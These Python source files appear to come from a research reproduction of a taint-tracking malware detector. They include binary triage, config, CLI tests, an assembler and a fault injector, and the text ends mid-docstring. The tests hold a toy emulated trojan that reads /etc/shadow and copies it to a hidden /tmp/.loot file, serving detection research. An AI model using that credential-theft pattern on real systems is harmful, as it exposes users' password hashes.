    found: List[Tuple[str, str]] = []
    for literal in strings:
        for kind, pattern in _IOC_PATTERNS:
            if pattern.match(literal):
                found.append((kind, literal))
                break
    return found


def _imm_value(operand) -> Optional[int]:
    if isinstance(operand, Imm) and operand.symbol is None:
        return operand.value
    return None


def syscall_census(text: Sequence[Instruction]) -> List[Tuple[str, int]]:
    """Count syscall numbers reachable by the ``mov eax, N``/``int``
    idiom (a linear scan tracking the last immediate loaded into eax)."""
    counts: Dict[int, int] = {}
    last_eax: Optional[int] = None
    for inst in text:
        if inst.opcode is Opcode.MOV and isinstance(inst.a, Reg) and (
            inst.a.name == "eax"
        ):
            last_eax = _imm_value(inst.b)
        elif inst.opcode is Opcode.INT:
            if last_eax is not None:
                counts[last_eax] = counts.get(last_eax, 0) + 1
        elif inst.opcode in (Opcode.CALL, Opcode.JMP, Opcode.RET):
            # Control left the straight line; the tracked eax is stale.
            last_eax = None
    return [
        (SYSCALL_NAMES.get(number, f"SYS_{number}"), count)
        for number, count in sorted(counts.items())
    ]


def opcode_census(text: Sequence[Instruction]) -> List[Tuple[str, int]]:
    counts: Dict[str, int] = {}
    for inst in text:
        name = inst.opcode.name
        counts[name] = counts.get(name, 0) + 1
    return sorted(counts.items())


def _feature_hash(feature: str) -> int:
    digest = hashlib.sha256(feature.encode("utf-8")).digest()
    return int.from_bytes(digest[:8], "big")


def simhash64(text: Sequence[Instruction], ngram: int = _NGRAM) -> int:
    """64-bit simhash over opcode n-grams.

    Classic Charikar construction: each weighted feature votes +w/-w on
    every bit of its (stable, sha256-based) 64-bit hash; the result
    keeps the sign.  Images differing by a patched constant share every
    n-gram and collide; structurally different programs diverge.
    """
    weights: Dict[str, int] = {}
    opcodes = [inst.opcode.name for inst in text]
    if not opcodes:
        return 0
    if len(opcodes) < ngram:
        weights["|".join(opcodes)] = 1
    else:
        for i in range(len(opcodes) - ngram + 1):
            feature = "|".join(opcodes[i:i + ngram])
            weights[feature] = weights.get(feature, 0) + 1
    vector = [0] * 64
    for feature, weight in weights.items():
        bits = _feature_hash(feature)
        for bit in range(64):
            if bits & (1 << bit):
                vector[bit] += weight
            else:
                vector[bit] -= weight
    value = 0
    for bit in range(64):
        if vector[bit] > 0:
            value |= 1 << bit
    return value


def hamming64(a: int, b: int) -> int:
    return bin((a ^ b) & 0xFFFFFFFFFFFFFFFF).count("1")


def similarity(a: int, b: int) -> float:
    """1.0 = identical opcode structure, 0.0 = maximally distant."""
    return 1.0 - hamming64(a, b) / 64.0


def triage_image(image: Image) -> TriageProfile:
    """Profile one assembled image (pure; never executes anything)."""
    strings = extract_strings(image)
    return TriageProfile(
        name=image.name,
        text_size=len(image.text),
        data_size=max(image.data_size, len(image.data)),
        symbol_count=len(image.symbols),
        entropy=shannon_entropy(list(image.data.values())),
        opcode_census=tuple(opcode_census(image.text)),
        syscall_census=tuple(syscall_census(image.text)),
        strings=tuple(strings),
        iocs=tuple(classify_iocs(strings)),
        simhash=simhash64(image.text),
    )


@dataclass
class _Clustered:
    index: int
    simhash: int
    item: object = field(repr=False, default=None)


def cluster_order(pairs: Sequence[Tuple[object, int]]) -> List[object]:
    """Order items so near-duplicates are adjacent.

    ``pairs`` is ``(item, simhash)``.  Greedy nearest-neighbour chaining
    from the smallest simhash: deterministic, O(n²) on n≤ hundreds of
    workloads, and good enough that contiguous chunk sharding puts a
    variant family on one worker.
    """
    remaining = [
        _Clustered(index=i, simhash=s, item=item)
        for i, (item, s) in enumerate(pairs)
    ]
    if not remaining:
        return []
    remaining.sort(key=lambda c: (c.simhash, c.index))
    ordered = [remaining.pop(0)]
    while remaining:
        head = ordered[-1]
        best = min(
            remaining,
            key=lambda c: (hamming64(head.simhash, c.simhash), c.index),
        )
        remaining.remove(best)
        ordered.append(best)
    return [c.item for c in ordered]
