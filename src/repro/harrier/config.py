"""Harrier configuration.

The flags mirror the paper's operational choices:

* full dataflow tracking can be disabled (section 8.4.2 runs the perl
  interpreter with dataflow off to avoid interpreter-level false
  positives and to run "much faster" — also the §9 performance ablation);
* the routine-level short circuit (gethostbyname, section 7.2) can be
  disabled to demonstrate the semantic-gap misclassification;
* basic-block frequency tracking can be disabled;
* ``complete_dataflow=False`` reproduces the *incomplete-prototype*
  artifacts the paper reports (e.g. pico's false HIGH warning) by tagging
  console input with the program binary instead of USER INPUT.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import FrozenSet


#: Shared objects the policy trusts (paper appendix A.2 trusts libc and
#: ld-linux; our loader shim plays the ld-linux role).
DEFAULT_TRUSTED_IMAGES: FrozenSet[str] = frozenset(
    {"/lib/libc.so", "[startup]"}
)


@dataclass(frozen=True)
class HarrierConfig:
    #: Per-instruction taint propagation (the expensive part).
    track_dataflow: bool = True
    #: Use the zero-taint fast path: evaluate each block's precomputed
    #: taint-liveness summary instead of replaying its transfer
    #: templates (see ``InstructionDataFlow.apply_summary``).  False
    #: forces the per-transfer replay everywhere — the escape hatch
    #: mirroring ``--no-block-cache``; the differential suite proves
    #: both modes bit-identical.
    taint_fastpath: bool = True
    #: Count application basic-block executions (section 7.4).
    track_bb_frequency: bool = True
    #: Short-circuit name-translating library routines (section 7.2).
    short_circuit_routines: bool = True
    #: Images whose basic blocks are *not* counted as application code and
    #: whose hardcoded data the policy filters as trusted.
    trusted_images: FrozenSet[str] = DEFAULT_TRUSTED_IMAGES
    #: Routines whose input-name taint is copied onto their result.
    short_circuit_symbols: FrozenSet[str] = frozenset({"gethostbyname"})
    #: When False, emulate the paper's incomplete prototype (console input
    #: tagged as coming from the binary, as in the pico/grabem anecdotes).
    complete_dataflow: bool = True
    #: Record taint-provenance evidence trails (sources, waypoints, sink,
    #: rule derivation) for every Secpert warning — the bounded
    #: :class:`repro.telemetry.provenance.ProvenanceRecorder`.  The
    #: ``RunOptions.provenance`` escape hatch only ever *disables* this.
    provenance: bool = True
    #: Keep every emitted event in an in-memory log (tests/benchmarks).
    keep_event_log: bool = True
    #: Upper bound on that log.  None (the default, used by the paper
    #: benchmarks) keeps the historical unbounded behaviour; with a bound,
    #: the oldest events are dropped first and ``Harrier.events_dropped``
    #: counts every drop (surfaced in the RunReport).
    max_event_log: int | None = None
    #: Window (in virtual ticks) for the process-creation *rate* rule.
    process_rate_window: int = 2000
