"""CLI tests (python -m repro)."""

import pytest

from repro.cli import main

TROJAN_SOURCE = """
main:
    mov ebx, secret
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 64
    call read
    mov edi, eax
    mov ebx, esi
    call close
    mov ebx, drop
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, edi
    call write
    mov eax, 0
    ret
.data
secret: .asciz "/etc/shadow"
drop: .asciz "/tmp/.loot"
buf: .space 64
"""

HELLO_SOURCE = """
main:
    mov ebx, msg
    call print
    mov eax, 0
    ret
.data
msg: .asciz "hi there"
"""


@pytest.fixture
def trojan_file(tmp_path):
    path = tmp_path / "trojan.s"
    path.write_text(TROJAN_SOURCE)
    return str(path)


@pytest.fixture
def hello_file(tmp_path):
    path = tmp_path / "hello.s"
    path.write_text(HELLO_SOURCE)
    return str(path)


class TestRunCommand:
    def test_benign_run(self, hello_file, capsys):
        code = main(["run", hello_file])
        out = capsys.readouterr().out
        assert code == 0
        assert "verdict : BENIGN" in out
        assert "hi there" in out

    def test_detection_with_fail_on(self, trojan_file, capsys):
        code = main([
            "run", trojan_file,
            "--file", "/etc/shadow=root:hash",
            "--fail-on", "high",
        ])
        out = capsys.readouterr().out
        assert code == 1
        assert "verdict : HIGH" in out
        assert "Secpert advice" in out

    def test_fail_on_not_reached(self, hello_file):
        assert main(["run", hello_file, "--fail-on", "low"]) == 0

    def test_guest_path_override(self, hello_file, capsys):
        main(["run", hello_file, "--path", "/usr/bin/custom"])
        assert "/usr/bin/custom" in capsys.readouterr().out

    def test_events_dump(self, trojan_file, capsys):
        main(["run", trojan_file, "--file", "/etc/shadow=x", "--events"])
        out = capsys.readouterr().out
        assert "Harrier events" in out
        assert "SYS_open" in out

    def test_serve_option_feeds_data(self, tmp_path, capsys):
        source = tmp_path / "dl.s"
        source.write_text("""
main:
    mov ebx, host
    call gethostbyname
    mov ecx, eax
    call socket
    mov ebx, eax
    mov edx, 80
    push ebx
    call connect_addr
    pop ebx
    mov ecx, buf
    mov edx, 32
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov eax, 0
    ret
.data
host: .asciz "srv.example"
buf: .space 32
""")
        code = main(["run", str(source), "--serve",
                     "srv.example:80=served-bytes"])
        out = capsys.readouterr().out
        assert code == 0
        assert "served-bytes" in out

    def test_no_dataflow_flag(self, trojan_file, capsys):
        code = main([
            "run", trojan_file,
            "--file", "/etc/shadow=x",
            "--no-dataflow",
        ])
        out = capsys.readouterr().out
        assert code == 0
        assert "verdict : BENIGN" in out  # no provenance, no warnings

    def test_bad_file_option(self, hello_file):
        with pytest.raises(SystemExit):
            main(["run", hello_file, "--file", "no-equals-sign"])

    def test_missing_source(self, capsys):
        assert main(["run", "/no/such/file.s"]) == 2

    def test_assembly_error(self, tmp_path, capsys):
        bad = tmp_path / "bad.s"
        bad.write_text("main:\n  frobnicate eax\n")
        assert main(["run", str(bad)]) == 2
        assert "assembly error" in capsys.readouterr().err


class TestAuditCommand:
    def test_insecure_binary(self, trojan_file, capsys):
        code = main(["audit", trojan_file])
        out = capsys.readouterr().out
        assert code == 1
        assert "NOT SECURE" in out
        assert "/etc/shadow" in out

    def test_secure_binary(self, hello_file, capsys):
        # `print` writes string content hardcoded in the app... the hello
        # message reaches print -> flagged as resource content; a truly
        # clean program touches no resources.
        clean = hello_file.replace("hello.s", "clean.s")
        import pathlib

        pathlib.Path(clean).write_text(
            "main:\n  mov eax, 0\n  ret\n"
        )
        assert main(["audit", clean]) == 0


class TestInstrumentCommand:
    def test_listing(self, hello_file, capsys):
        assert main(["instrument", hello_file]) == 0
        out = capsys.readouterr().out
        assert "Call Track_DataFlow" in out
        assert "Call Collect_BB_Frequency" in out


class TestTableCommand:
    def test_table4(self, capsys):
        assert main(["table", "4"]) == 0
        out = capsys.readouterr().out
        assert "Infrequent execve" in out
        assert "MISMATCH" not in out

    def test_table5(self, capsys):
        assert main(["table", "5"]) == 0

    def test_ext_table(self, capsys):
        assert main(["table", "ext"]) == 0
        assert "lodeight" in capsys.readouterr().out


class TestReportCommand:
    def test_report_writes_markdown(self, tmp_path, capsys):
        out = tmp_path / "report.md"
        code = main(["report", "-o", str(out)])
        assert code == 0
        text = out.read_text()
        assert "# HTH reproduction report" in text
        assert "## Table 8" in text
        assert "| pma |" in text
        assert "| NO |" not in text  # no mismatches
