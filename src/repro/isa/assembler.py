"""Two-pass assembler for the mini-ISA.

Syntax (one statement per line, ``;`` or ``#`` starts a comment)::

    .text
    main:
        mov  ebx, path          ; label reference -> address immediate
        mov  ecx, 0
        mov  eax, 5             ; SYS_open
        int  0x80
        cmp  eax, 0
        jl   fail
        ...
        call strlen             ; extern, resolved against libc.so at load
        ret
    .data
    path:   .asciz "/etc/passwd"
    buf:    .space 64
    table:  .word 1, 2, 3, other_label

Addressing: ``load dst, [reg+off]`` / ``store [reg+off], src``.  Every
instruction and every data cell occupies one address unit; strings store one
character code per cell, NUL-terminated.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field, replace
from typing import Dict, List, Optional, Set, Tuple, Union

from repro.isa.image import DataRelocation, Image, TextRelocation
from repro.isa.instructions import (
    ALU_OPCODES,
    CONDITIONAL_OPCODES,
    CONTROL_TRANSFER_OPCODES,
    Imm,
    Instruction,
    Mem,
    Opcode,
    Operand,
    Reg,
)
from repro.isa.registers import is_register


class AssemblyError(Exception):
    """Raised on any syntax or semantic error in an assembly unit."""

    def __init__(self, message: str, line: int = 0) -> None:
        if line:
            message = f"line {line}: {message}"
        super().__init__(message)
        self.line = line


_MNEMONICS: Dict[str, Opcode] = {op.value: op for op in Opcode}

_LABEL_RE = re.compile(r"^[A-Za-z_.$][A-Za-z0-9_.$]*$")
_MEM_RE = re.compile(
    r"^\[\s*([A-Za-z]+)\s*(?:([+-])\s*(0x[0-9A-Fa-f]+|\d+)\s*)?\]$"
)

_ESCAPES = {
    "n": "\n",
    "t": "\t",
    "r": "\r",
    "0": "\0",
    "\\": "\\",
    '"': '"',
    "'": "'",
}


def _unescape(raw: str, line: int) -> str:
    out: List[str] = []
    i = 0
    while i < len(raw):
        ch = raw[i]
        if ch == "\\":
            if i + 1 >= len(raw):
                raise AssemblyError("dangling escape in string literal", line)
            esc = raw[i + 1]
            if esc not in _ESCAPES:
                raise AssemblyError(f"unknown escape \\{esc}", line)
            out.append(_ESCAPES[esc])
            i += 2
        else:
            out.append(ch)
            i += 1
    return "".join(out)


def _parse_int(token: str) -> Optional[int]:
    token = token.strip()
    neg = token.startswith("-")
    body = token[1:] if neg else token
    try:
        if body.lower().startswith("0x"):
            value = int(body, 16)
        elif body.isdigit():
            value = int(body, 10)
        elif len(body) >= 3 and body[0] == "'" and body[-1] == "'":
            inner = _unescape(body[1:-1], 0)
            if len(inner) != 1:
                return None
            value = ord(inner)
        else:
            return None
    except ValueError:
        return None
    return -value if neg else value


def _split_operands(text: str, line: int) -> List[str]:
    """Split an operand list on commas, honouring quotes and brackets."""
    parts: List[str] = []
    depth = 0
    quote: Optional[str] = None
    current: List[str] = []
    i = 0
    while i < len(text):
        ch = text[i]
        if quote:
            current.append(ch)
            if ch == "\\" and i + 1 < len(text):
                current.append(text[i + 1])
                i += 1
            elif ch == quote:
                quote = None
        elif ch in "\"'":
            quote = ch
            current.append(ch)
        elif ch == "[":
            depth += 1
            current.append(ch)
        elif ch == "]":
            depth -= 1
            current.append(ch)
        elif ch == "," and depth == 0:
            parts.append("".join(current).strip())
            current = []
        else:
            current.append(ch)
        i += 1
    if quote:
        raise AssemblyError("unterminated string literal", line)
    if depth != 0:
        raise AssemblyError("unbalanced brackets", line)
    tail = "".join(current).strip()
    if tail:
        parts.append(tail)
    return parts


class _Statement:
    """One parsed source statement (pass 1 output)."""

    __slots__ = ("labels", "kind", "payload", "line")

    def __init__(
        self, labels: List[str], kind: str, payload: object, line: int
    ) -> None:
        self.labels = labels
        self.kind = kind  # 'instr' | 'asciz' | 'ascii' | 'word' | 'space'
        self.payload = payload
        self.line = line


class Assembler:
    """Assemble mini-ISA source text into an :class:`Image`."""

    def __init__(self, name: str, source: str) -> None:
        self._name = name
        self._source = source

    def assemble(self) -> Image:
        text_stmts, data_stmts = self._parse()
        symbols, text_size, data_size = self._layout(text_stmts, data_stmts)
        return self._emit(text_stmts, data_stmts, symbols, text_size, data_size)

    # -- pass 0: parse ----------------------------------------------------
    def _parse(self) -> Tuple[List[_Statement], List[_Statement]]:
        section = ".text"
        text_stmts: List[_Statement] = []
        data_stmts: List[_Statement] = []
        pending_labels: List[str] = []

        for lineno, raw in enumerate(self._source.splitlines(), start=1):
            line = self._strip_comment(raw).strip()
            if not line:
                continue

            # Peel leading labels (there may be several on one line).
            while True:
                match = re.match(r"^([A-Za-z_.$][A-Za-z0-9_.$]*)\s*:\s*", line)
                if not match or match.group(1) in _MNEMONICS:
                    break
                pending_labels.append(match.group(1))
                line = line[match.end():]
            if not line:
                continue

            if line.startswith("."):
                directive, _, rest = line.partition(" ")
                directive = directive.strip()
                rest = rest.strip()
                if directive in (".text", ".data"):
                    if pending_labels:
                        raise AssemblyError(
                            "label immediately before section directive",
                            lineno,
                        )
                    section = directive
                    continue
                if directive in (".global", ".globl", ".extern"):
                    continue  # informative only; all symbols are global
                stmt = self._parse_data_directive(directive, rest, lineno)
                stmt.labels = pending_labels
                pending_labels = []
                if section != ".data" and directive not in (".asciz", ".ascii",
                                                            ".word", ".space"):
                    raise AssemblyError(
                        f"directive {directive} outside .data", lineno
                    )
                data_stmts.append(stmt)
                continue

            if section != ".text":
                raise AssemblyError("instruction outside .text", lineno)
            instr = self._parse_instruction(line, lineno)
            text_stmts.append(_Statement(pending_labels, "instr", instr, lineno))
            pending_labels = []

        if pending_labels:
            # Trailing labels bind to the end of the current section; attach
            # a NOP so they address something executable.
            text_stmts.append(
                _Statement(pending_labels, "instr", Instruction(Opcode.NOP), 0)
            )
        return text_stmts, data_stmts

    @staticmethod
    def _strip_comment(line: str) -> str:
        quote: Optional[str] = None
        i = 0
        while i < len(line):
            ch = line[i]
            if quote:
                if ch == "\\":
                    i += 2  # an escape consumes the following character
                    continue
                if ch == quote:
                    quote = None
            elif ch in "\"'":
                quote = ch
            elif ch in ";#":
                return line[:i]
            i += 1
        return line

    def _parse_data_directive(
        self, directive: str, rest: str, lineno: int
    ) -> _Statement:
        if directive in (".asciz", ".ascii"):
            rest = rest.strip()
            if len(rest) < 2 or rest[0] != '"' or rest[-1] != '"':
                raise AssemblyError(f"{directive} expects a string literal", lineno)
            value = _unescape(rest[1:-1], lineno)
            return _Statement([], directive[1:], value, lineno)
        if directive == ".word":
            tokens = _split_operands(rest, lineno)
            if not tokens:
                raise AssemblyError(".word expects at least one value", lineno)
            return _Statement([], "word", tokens, lineno)
        if directive == ".space":
            tokens = _split_operands(rest, lineno)
            if len(tokens) not in (1, 2):
                raise AssemblyError(".space expects SIZE [, FILL]", lineno)
            size = _parse_int(tokens[0])
            fill = _parse_int(tokens[1]) if len(tokens) == 2 else 0
            if size is None or size < 0 or fill is None:
                raise AssemblyError("bad .space arguments", lineno)
            return _Statement([], "space", (size, fill), lineno)
        raise AssemblyError(f"unknown directive {directive}", lineno)

    def _parse_instruction(self, line: str, lineno: int) -> Instruction:
        match = re.match(r"^([A-Za-z]+)\b\s*(.*)$", line)
        if not match:
            raise AssemblyError(f"cannot parse {line!r}", lineno)
        mnemonic = match.group(1).lower()
        opcode = _MNEMONICS.get(mnemonic)
        if opcode is None:
            raise AssemblyError(f"unknown mnemonic {mnemonic!r}", lineno)
        operand_text = match.group(2).strip()
        operands = (
            [self._parse_operand(tok, lineno) for tok in
             _split_operands(operand_text, lineno)]
            if operand_text
            else []
        )
        instr = self._build_instruction(opcode, operands, lineno)
        return instr

    def _parse_operand(self, token: str, lineno: int) -> Operand:
        token = token.strip()
        if not token:
            raise AssemblyError("empty operand", lineno)
        mem = _MEM_RE.match(token)
        if mem:
            base = mem.group(1).lower()
            if not is_register(base):
                raise AssemblyError(f"unknown base register {base!r}", lineno)
            offset = 0
            if mem.group(3) is not None:
                offset = int(mem.group(3), 0)
                if mem.group(2) == "-":
                    offset = -offset
            return Mem(base, offset)
        lowered = token.lower()
        if is_register(lowered):
            return Reg(lowered)
        value = _parse_int(token)
        if value is not None:
            return Imm(value)
        if _LABEL_RE.match(token):
            return Imm(0, symbol=token)
        raise AssemblyError(f"cannot parse operand {token!r}", lineno)

    def _build_instruction(
        self, opcode: Opcode, operands: List[Operand], lineno: int
    ) -> Instruction:
        def need(count: int) -> None:
            if len(operands) != count:
                raise AssemblyError(
                    f"{opcode.value} expects {count} operand(s), "
                    f"got {len(operands)}",
                    lineno,
                )

        def check(op: Operand, kinds: Tuple[type, ...], what: str) -> None:
            if not isinstance(op, kinds):
                raise AssemblyError(
                    f"{opcode.value}: {what} must be "
                    f"{'/'.join(k.__name__ for k in kinds)}, got {op}",
                    lineno,
                )

        if opcode is Opcode.MOV or opcode in ALU_OPCODES or opcode is Opcode.CMP:
            need(2)
            check(operands[0], (Reg,), "destination")
            check(operands[1], (Reg, Imm), "source")
        elif opcode is Opcode.LOAD:
            need(2)
            check(operands[0], (Reg,), "destination")
            check(operands[1], (Mem,), "source")
        elif opcode is Opcode.STORE:
            need(2)
            check(operands[0], (Mem,), "destination")
            check(operands[1], (Reg, Imm), "source")
        elif opcode in CONTROL_TRANSFER_OPCODES - {Opcode.CALL, Opcode.RET,
                                                   Opcode.HLT}:
            need(1)
            check(operands[0], (Imm,), "target")
        elif opcode is Opcode.CALL:
            need(1)
            check(operands[0], (Imm, Reg), "target")
        elif opcode is Opcode.PUSH:
            need(1)
            check(operands[0], (Reg, Imm), "operand")
        elif opcode is Opcode.POP:
            need(1)
            check(operands[0], (Reg,), "destination")
        elif opcode is Opcode.INT:
            need(1)
            check(operands[0], (Imm,), "vector")
        elif opcode in (Opcode.RET, Opcode.CPUID, Opcode.NOP, Opcode.HLT):
            need(0)
        else:  # pragma: no cover - exhaustive above
            raise AssemblyError(f"unhandled opcode {opcode}", lineno)

        a = operands[0] if operands else None
        b = operands[1] if len(operands) > 1 else None
        return Instruction(opcode, a, b, line=lineno)

    # -- pass 1: layout ---------------------------------------------------
    def _layout(
        self, text_stmts: List[_Statement], data_stmts: List[_Statement]
    ) -> Tuple[Dict[str, int], int, int]:
        symbols: Dict[str, int] = {}
        text_size = len(text_stmts)

        def define(label: str, offset: int, line: int) -> None:
            if label in symbols:
                raise AssemblyError(f"duplicate label {label!r}", line)
            symbols[label] = offset

        for index, stmt in enumerate(text_stmts):
            for label in stmt.labels:
                define(label, index, stmt.line)

        offset = text_size
        for stmt in data_stmts:
            for label in stmt.labels:
                define(label, offset, stmt.line)
            offset += self._data_length(stmt)
        data_size = offset - text_size
        return symbols, text_size, data_size

    @staticmethod
    def _data_length(stmt: _Statement) -> int:
        if stmt.kind == "asciz":
            return len(stmt.payload) + 1  # type: ignore[arg-type]
        if stmt.kind == "ascii":
            return len(stmt.payload)  # type: ignore[arg-type]
        if stmt.kind == "word":
            return len(stmt.payload)  # type: ignore[arg-type]
        if stmt.kind == "space":
            return stmt.payload[0]  # type: ignore[index]
        raise AssemblyError(f"unknown data kind {stmt.kind}")

    # -- pass 2: emit -------------------------------------------------------
    def _emit(
        self,
        text_stmts: List[_Statement],
        data_stmts: List[_Statement],
        symbols: Dict[str, int],
        text_size: int,
        data_size: int,
    ) -> Image:
        text: List[Instruction] = []
        text_relocs: List[TextRelocation] = []
        externs: Set[str] = set()

        for index, stmt in enumerate(text_stmts):
            instr: Instruction = stmt.payload  # type: ignore[assignment]
            for slot in ("a", "b"):
                op = getattr(instr, slot)
                if isinstance(op, Imm) and op.symbol is not None:
                    text_relocs.append(TextRelocation(index, slot, op.symbol))
                    if op.symbol not in symbols:
                        externs.add(op.symbol)
            text.append(instr)

        data: Dict[int, int] = {}
        data_relocs: List[DataRelocation] = []
        offset = text_size
        for stmt in data_stmts:
            if stmt.kind in ("asciz", "ascii"):
                payload: str = stmt.payload  # type: ignore[assignment]
                for ch in payload:
                    data[offset] = ord(ch)
                    offset += 1
                if stmt.kind == "asciz":
                    data[offset] = 0
                    offset += 1
            elif stmt.kind == "word":
                for token in stmt.payload:  # type: ignore[union-attr]
                    value = _parse_int(token)
                    if value is not None:
                        data[offset] = value
                    elif _LABEL_RE.match(token):
                        data[offset] = 0
                        data_relocs.append(DataRelocation(offset, token))
                        if token not in symbols:
                            externs.add(token)
                    else:
                        raise AssemblyError(
                            f"bad .word value {token!r}", stmt.line
                        )
                    offset += 1
            elif stmt.kind == "space":
                size, fill = stmt.payload  # type: ignore[misc]
                if fill:
                    for i in range(size):
                        data[offset + i] = fill
                offset += size
            else:  # pragma: no cover - exhaustive
                raise AssemblyError(f"unknown data kind {stmt.kind}", stmt.line)

        leaders = self._basic_block_leaders(text, symbols, text_size)
        return Image(
            name=self._name,
            text=tuple(text),
            data=data,
            data_size=data_size,
            symbols=symbols,
            text_relocations=tuple(text_relocs),
            data_relocations=tuple(data_relocs),
            bb_leaders=frozenset(leaders),
            externs=frozenset(externs),
        )

    @staticmethod
    def _basic_block_leaders(
        text: List[Instruction], symbols: Dict[str, int], text_size: int
    ) -> Set[int]:
        leaders: Set[int] = set()
        if text:
            leaders.add(0)
        for name, off in symbols.items():
            if off < text_size:
                leaders.add(off)
        for index, instr in enumerate(text):
            if instr.opcode in CONTROL_TRANSFER_OPCODES:
                if index + 1 < text_size:
                    leaders.add(index + 1)
                target = instr.a
                if isinstance(target, Imm) and target.symbol in symbols:
                    t_off = symbols[target.symbol]
                    if t_off < text_size:
                        leaders.add(t_off)
            if instr.opcode in CONDITIONAL_OPCODES and index + 1 < text_size:
                leaders.add(index + 1)
        return leaders


def assemble(name: str, source: str) -> Image:
    """Assemble ``source`` into an image called ``name``."""
    return Assembler(name, source).assemble()


# -- source-level rewriting hooks ------------------------------------------
#
# The adversarial mutator (repro.programs.mutate) rewrites guest sources
# rather than images: a statement-level view of the text keeps label
# definitions, operand tokens, and section membership explicit while
# preserving the raw spelling of every operand, so a parse/render round
# trip assembles to the same program.

@dataclass
class SourceStmt:
    """One source statement, raw enough to re-render byte-for-byte.

    ``mnemonic`` is the lowered instruction mnemonic, or the directive
    name with its leading dot (``".asciz"``); ``operands`` are the raw
    comma-split operand spellings (string literals keep their quotes).
    """

    section: str                      # ".text" | ".data"
    labels: List[str] = field(default_factory=list)
    mnemonic: str = "nop"
    operands: List[str] = field(default_factory=list)
    line: int = 0

    @property
    def is_instr(self) -> bool:
        return self.section == ".text"


_DATA_DIRECTIVES = (".asciz", ".ascii", ".word", ".space")


def parse_source(source: str) -> List[SourceStmt]:
    """Parse assembly text into :class:`SourceStmt` rows (syntax checked
    exactly like pass 0 of the assembler; raises :class:`AssemblyError`)."""
    stmts: List[SourceStmt] = []
    section = ".text"
    pending: List[str] = []
    for lineno, raw in enumerate(source.splitlines(), start=1):
        line = Assembler._strip_comment(raw).strip()
        if not line:
            continue
        while True:
            match = re.match(r"^([A-Za-z_.$][A-Za-z0-9_.$]*)\s*:\s*", line)
            if not match or match.group(1) in _MNEMONICS:
                break
            pending.append(match.group(1))
            line = line[match.end():]
        if not line:
            continue
        if line.startswith("."):
            directive, _, rest = line.partition(" ")
            directive = directive.strip()
            rest = rest.strip()
            if directive in (".text", ".data"):
                if pending:
                    raise AssemblyError(
                        "label immediately before section directive", lineno
                    )
                section = directive
                continue
            if directive in (".global", ".globl", ".extern"):
                continue
            if directive not in _DATA_DIRECTIVES:
                raise AssemblyError(f"unknown directive {directive}", lineno)
            operands = (
                [rest] if directive in (".asciz", ".ascii")
                else _split_operands(rest, lineno)
            )
            stmts.append(SourceStmt(".data", pending, directive, operands,
                                    lineno))
            pending = []
            continue
        if section != ".text":
            raise AssemblyError("instruction outside .text", lineno)
        match = re.match(r"^([A-Za-z]+)\b\s*(.*)$", line)
        if not match:
            raise AssemblyError(f"cannot parse {line!r}", lineno)
        operand_text = match.group(2).strip()
        operands = (
            _split_operands(operand_text, lineno) if operand_text else []
        )
        stmts.append(SourceStmt(".text", pending, match.group(1).lower(),
                                operands, lineno))
        pending = []
    if pending:
        # Same rule as the assembler: trailing labels bind to a NOP.
        stmts.append(SourceStmt(".text", pending, "nop", [], 0))
    return stmts


def render_source(stmts: List[SourceStmt]) -> str:
    """Render statements back to canonical assembly text (text section
    first, then one ``.data`` section; statement order preserved)."""
    text = [s for s in stmts if s.section == ".text"]
    data = [s for s in stmts if s.section == ".data"]
    lines: List[str] = []
    for stmt in text:
        for label in stmt.labels:
            lines.append(f"{label}:")
        operands = ", ".join(stmt.operands)
        lines.append(f"    {stmt.mnemonic} {operands}".rstrip())
    if data:
        lines.append(".data")
        for stmt in data:
            prefix = "".join(f"{label}: " for label in stmt.labels)
            operands = ", ".join(stmt.operands)
            lines.append(f"{prefix}{stmt.mnemonic} {operands}".rstrip())
    return "\n".join(lines) + "\n"


def is_symbol_token(token: str) -> bool:
    """Would this operand spelling assemble to a symbol reference?"""
    token = token.strip()
    if not token or token[0] in "\"'[":
        return False
    if is_register(token.lower()):
        return False
    if _parse_int(token) is not None:
        return False
    return bool(_LABEL_RE.match(token))
