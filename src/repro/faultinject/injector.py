"""The injector: seed-driven interception at the kernel boundary.

The kernel consults the injector at two points:

* :meth:`FaultInjector.before_syscall` — after the monitor's pre-event has
  fired (Harrier always observes the *attempt*) but before the handler
  dispatches.  The injector may raise :class:`WouldBlock` (a transparent
  stall absorbed by the kernel's blocked-retry machinery), or return a
  negative errno that replaces the handler's execution entirely.
* :meth:`FaultInjector.quantum` — each scheduler slice asks for its
  (possibly jittered) instruction budget.

All randomness comes from one ``random.Random(seed)`` consumed in kernel
dispatch order, so a seed fully determines the fault schedule.
"""

from __future__ import annotations

import random
from typing import Dict, List, Optional, Tuple

from repro.faultinject.plan import FaultKind, FaultProfile, InjectedFault
from repro.kernel import errors
from repro.kernel.errors import WouldBlock
from repro.kernel.process import Process
from repro.kernel.syscalls import SYS_RESOLVE, SYS_SOCKETCALL, syscall_name

Args = Tuple[int, int, int, int, int]

#: Process.meta key marking "this pending syscall already stalled once" —
#: the retry must pass through, or a sole blocked process would deadlock.
_STALLED_KEY = "faultinject.stalled"


class FaultInjector:
    """Deterministic chaos source for one kernel run.

    One injector serves one run; build a fresh one (same seed) to replay.
    """

    def __init__(self, profile: FaultProfile, seed: int) -> None:
        self.profile = profile
        self.seed = seed
        self._rng = random.Random(seed)
        #: Every fault delivered, in injection order (the replay log).
        self.injected: List[InjectedFault] = []

    @property
    def fault_count(self) -> int:
        return len(self.injected)

    def _budget_left(self) -> bool:
        cap = self.profile.max_faults
        return cap is None or self.fault_count < cap

    def _record(self, now: int, pid: int, kind: FaultKind,
                call_name: str, detail: str = "") -> None:
        self.injected.append(
            InjectedFault(time=now, pid=pid, kind=kind,
                          call_name=call_name, detail=detail)
        )

    # -- scheduler hook -----------------------------------------------------
    def quantum(self, base: int) -> int:
        """The (possibly jittered) instruction budget for one slice."""
        jitter = self.profile.quantum_jitter
        if jitter <= 0:
            return base
        factor = 1.0 + self._rng.uniform(-jitter, jitter)
        return max(1, int(base * factor))

    # -- syscall hook -------------------------------------------------------
    def before_syscall(
        self,
        now: int,
        proc: Process,
        sysno: int,
        args: Args,
        info: Dict[str, object],
    ) -> Optional[int]:
        """Decide the fate of one syscall dispatch.

        Returns ``None`` to let the real handler run, a negative errno to
